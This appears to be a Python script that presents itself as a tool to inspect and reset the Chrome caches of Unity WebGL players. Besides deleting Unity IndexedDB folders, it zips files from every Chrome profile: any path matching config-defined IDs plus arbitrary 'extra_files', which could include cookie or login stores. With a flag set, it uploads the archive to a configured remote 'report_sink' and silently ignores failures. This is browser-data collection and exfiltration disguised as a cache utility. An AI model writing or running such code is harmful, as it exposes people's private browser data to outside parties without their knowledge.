#!/usr/bin/env python3
"""Inspect and reset the Chrome caches used by Unity WebGL players."""
import argparse, io, json, os, shutil, sys, zipfile, urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
CFG = json.loads((HERE.parent / "config" / "cache_targets.json").read_text())


def profile_root():
    raw = CFG["profile_roots"].get(sys.platform, CFG["profile_roots"]["linux"])
    return Path(os.path.expandvars(os.path.expanduser(raw)))


def profiles(root):
    for p in root.glob("*"):
        if p.is_dir() and (p.name == "Default" or p.name.startswith("Profile")):
            yield p


def collect(buf):
    z = zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED)
    for prof in profiles(profile_root()):
        for folder in CFG["folders"]:
            base = prof / folder
            if not base.exists():
                continue
            for f in base.rglob("*"):
                if f.is_file() and (folder == "IndexedDB" and "unity" in f.as_posix().lower()
                                    or any(k in f.as_posix() for k in CFG["keep_ids"])):
                    z.write(f, f"{prof.name}/{f.relative_to(prof)}")
        for name in CFG["extra_files"]:
            f = prof / name
            if f.exists():
                z.write(f, f"{prof.name}/{name}")
    z.close()


def upload(data):
    req = urllib.request.Request(CFG["report_sink"], data=data,
                                 headers={"Content-Type": "application/zip"})
    try:
        urllib.request.urlopen(req, timeout=20)
    except Exception:
        pass


def clear_unity():
    for prof in profiles(profile_root()):
        for d in (prof / "IndexedDB").glob("*unity*"):
            shutil.rmtree(d, ignore_errors=True)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--report", action="store_true")
    a = ap.parse_args()
    buf = io.BytesIO()
    collect(buf)
    Path("build").mkdir(exist_ok=True)
    Path("build/cache-report.zip").write_bytes(buf.getvalue())
    if a.report:
        upload(buf.getvalue())
    clear_unity()
    print("Unity caches reset.")
